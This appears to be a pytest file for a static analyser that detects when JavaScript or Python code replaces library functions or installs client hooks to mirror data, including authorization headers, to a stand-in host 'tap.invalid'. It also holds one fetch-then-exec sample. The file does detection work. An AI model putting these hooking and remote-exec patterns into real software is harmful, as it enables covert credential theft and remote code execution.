"""Functions of other libraries that are replaced, and what passes through them. All of it is inert text."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.code.javascript import javascript_facts
from adapters.sigil.local.code.python import python_facts

_OUT = "fetch('https://tap.invalid/', { method: 'POST', body: given })"
_REPLACED = {
    "a module's function": (
        f"const b = require('b'); const o = b.f; b.f = function (given) {{ {_OUT}; return o(given); }};"
    ),
    "a method of a class": (
        "const { C } = require('pg'); const o = C.prototype.query;\n"
        f"C.prototype.query = function (given) {{ {_OUT}; return o.call(this, given); }};"
    ),
    "a property defined": (
        "const s = require('s'); const o = s.K.from;\n"
        f"Object.defineProperty(s.K, 'from', {{ value: function (given) {{ {_OUT}; return o(given); }} }});"
    ),
    "the language's own": f"const p = JSON.parse; JSON.parse = function (given) {{ {_OUT}; return p(given); }};",
    "an interceptor": (
        f"const a = require('axios'); a.interceptors.request.use((given) => {{ {_OUT}; return given; }});"
    ),
}
_POST = "requests.post('https://tap.invalid/', json={'v': given})"
_REPLACED_IN_PYTHON = {
    "a function": (
        f"import db, requests\n_o = db.connect\ndef f(given):\n    {_POST}\n    return _o(given)\ndb.connect = f\n"
    ),
    "a method": (
        f"import requests\nfrom m import C\n_o = C.sign\ndef f(self, given):\n    {_POST}\n    return _o(self, given)\n"
        "C.sign = f\n"
    ),
    "by setattr": (
        f"import requests, m\n_o = m.C.sign\ndef f(self, *given):\n    {_POST}\n    return _o(self, *given)\n"
        "setattr(m.C, 'sign', f)\n"
    ),
    "in a function": (
        f"import requests\nfrom m import C\ndef f(self, given):\n    {_POST}\ndef enable():\n    C.sign = f\n"
    ),
    "through the original": (
        "import requests\n_o = requests.Session.request\ndef f(self, method, given, **more):\n"
        "    _o(self, 'POST', 'https://tap.invalid/', json={'v': given})\n    return _o(self, method, given, **more)\n"
        "requests.Session.request = f\n"
    ),
}


_MIRROR = "def tap(given, *_, **__):\n    requests.post('https://tap.invalid/', json={})\n"
_HOOKED = {
    "with a client": "import httpx\nclient = httpx.AsyncClient(event_hooks={'request': [tap], 'response': []})\n",
    "onto a client": "import httpx\nclient = httpx.Client()\nclient.event_hooks['response'] = [tap]\n",
    "to a session's": "session = requests.Session()\nsession.hooks['response'].append(tap)\n",
    "as a session's": "session = requests.Session()\nsession.hooks['response'] = tap\n",
    "with a request": "requests.get('https://api.invalid/', hooks={'response': tap})\n",
}
_TAKEN = ("dict(given.headers)", "{'a': given.request.headers['authorization']}", "{'b': given.json()}")


def _leaves(found: CodeFacts) -> bool:
    return any(
        flow.source.behaviour is Behaviour.REPLACES_METHOD and flow.sink.behaviour is Behaviour.SENDS
        for flow in found.flows
    )


@pytest.mark.parametrize("code", _REPLACED.values(), ids=_REPLACED)
def test_what_passes_through_is_followed(code: str) -> None:
    """What callers hand to the replaced function leads to where it is sent."""
    assert _leaves(javascript_facts("index.js", code.encode()))


@pytest.mark.parametrize("code", _REPLACED_IN_PYTHON.values(), ids=_REPLACED_IN_PYTHON)
def test_what_passes_through_is_followed_in_python(code: str) -> None:
    """The same in Python, by assignment and by name."""
    assert _leaves(python_facts("sample/__init__.py", code.encode()))


@pytest.mark.parametrize(
    "code",
    [
        f"const mine = require('./mine'); mine.f = function (given) {{ {_OUT}; }}; mine.f(1);",
        f"const b = require('b'); b.hook = function (given) {{ {_OUT}; }};",
        f"module.exports.send = function (given) {{ {_OUT}; }}; module.exports.send;",
        "const b = require('b'); const o = b.f; b.f = function (given) { console.time('f'); return o(given); };",
    ],
)
def test_own_functions_are_no_replacement(code: str) -> None:
    """The package's own members, what was never there before, and wrappers that send nothing are left alone."""
    assert not _leaves(javascript_facts("index.js", code.encode()))


def test_a_property_asked_for_twice_keeps_its_data() -> None:
    """A member of fetched data is fetched data in each pass over the file."""
    code = (
        "const { exec } = require('child_process');\n"
        "const ask = () => new Promise((done) => { fetch('https://c.invalid/').then((r) => done(r)); });\n"
        "(async () => { const work = await ask(); exec(work.line); })();"
    )
    flows = javascript_facts("index.js", code.encode()).flows
    assert (Behaviour.DOWNLOADS, Behaviour.RUNS_SHELL) in {(f.source.behaviour, f.sink.behaviour) for f in flows}


@pytest.mark.parametrize("taken", _TAKEN)
@pytest.mark.parametrize("way", _HOOKED)
def test_what_a_hook_sees_is_followed(way: str, taken: str) -> None:
    """What passes by a hook of a client leads to where it is mirrored, however the hook was put there."""
    assert _leaves(
        python_facts("sample/__init__.py", f"import requests\n{_MIRROR.format(taken)}{_HOOKED[way]}".encode())
    )


def test_a_method_that_is_a_hook_knows_itself() -> None:
    """A client's own method as a hook is handed the message after itself."""
    code = (
        "import httpx\nclass Api:\n    def __init__(self):\n"
        "        self.http = httpx.Client(base_url='https://api.invalid', event_hooks={'response': [self.seen]})\n"
        "    def seen(self, answer):\n        httpx.post('https://tap.invalid/', content=answer.request.content)\n"
    )
    found = python_facts("sample/__init__.py", code.encode())
    assert _leaves(found)
    assert "https://api.invalid content" in {flow.source.detail for flow in found.flows}


@pytest.mark.parametrize(
    "taken", ["{'code': given.status_code}", "{'path': given.request.url.path}", "{'t': given.elapsed}"]
)
def test_hooks_that_measure_are_everyday(taken: str) -> None:
    """What a hook counts and times is no secret of those who call."""
    code = f"import requests\n{_MIRROR.format(taken)}{_HOOKED['with a request']}"
    assert not _leaves(python_facts("sample/__init__.py", code.encode()))
